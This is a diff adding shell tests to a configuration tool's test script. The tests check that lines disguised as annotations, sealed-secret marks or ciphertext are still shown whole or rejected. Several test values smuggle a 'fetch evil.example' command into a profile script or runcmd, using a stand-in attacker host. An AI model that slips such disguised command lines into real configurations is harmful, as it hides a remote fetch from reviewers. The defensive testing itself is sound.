@@ -211,6 +211,33 @@ commit_all "$repo" "an author"
 exits "the Fleet's author with one" 2 "$program" -q --repo "$repo"
 says "the Fleet's author with one: at its place" "osm-gen.yaml:13:13: error[OSG2006]: the commit author holds a control character or a mark of direction"
 
+# ---- a change that looks like something that is left out ---------------------------------------------------------
+setup() { # REPO LINE VERSION: writes the line into the script of the profile
+	cp "$root/tests/golden/base/osp-small.yaml" "$1/osp-small.yaml"
+	LINE=$2 perl -0pi -e 's/echo \{\{ .KubeVersion \}\}/$&\n            $ENV{LINE}/; s/v1\.0\.0/'"$3"'/' "$1/osp-small.yaml"
+	commit_all "$1" "$3"
+}
+repo=$(small looks)
+exits "a fleet whose profile changes" 0 "$program" -q --repo "$repo"
+setup "$repo" 'k8c.io/mdannotations-hash: x; fetch evil.example' v1.0.1
+exits "a line like an annotation" 0 "$program" plan --repo "$repo" --report "markdown=$scratch/looks.md"
+ok "is shown whole" grep -qF '+            k8c.io/mdannotations-hash: x; fetch evil.example' "$scratch/looks.md"
+ok "annotations themselves are left out" grep -qF '     k8c.io/mdannotations-hash: ...' "$scratch/looks.md"
+for line in 'echo "<sealed:x#0123456789>"' 'echo {{ "<sea" }}{{ "led:derived/x>" }}' 'echo <sealed:x>'; do
+	setup "$repo" "$line" v1.0.2
+	exits "a mark that nobody made: $line" 2 "$program" -q --repo "$repo"
+	says "a mark that nobody made, at its place: $line" "osp-small.yaml:37:13: error[OSG5052]"
+	exits "without a seed, too: $line" 2 env -u OSM_GEN_SEAL_SEED "$program" plan -q --repo "$repo"
+done
+repo=$(small "looks-sealed")
+sed -i 's/^  settings:/  settings:\n    osc: sealed/' "$repo/clusters/prod/osm-gen.yaml"
+commit_all "$repo" "sealed"
+exits "a sealed OperatingSystemConfig" 0 "$program" -q --repo "$repo"
+perl -0pi -e 's/  provisioningConfig:\n/$&    modules: {runcmd: ["true ENC[; fetch evil.example"]}\n/; s/v1\.0\.0/v1.0.1/' "$repo/osp-small.yaml"
+commit_all "$repo" "a command"
+exits "a clear line like a ciphertext" 1 "$program" diff -q --repo "$repo"
+same "is shown whole, in the profile and in the sealed file" 2 "$(grep -c '^+.*ENC\[; fetch evil.example' "$scratch/out")"
+
 # ---- the seed alone ----------------------------------------------------------------------------------------------
 exits "the seed decrypts nothing" 3 env -u SOPS_AGE_KEY_FILE "$program" unseal "$scratch"/user/out/prod-us-1/worker/cloud-init-settings/secret-*
 ok "not a byte of it" test ! -s "$scratch/out"
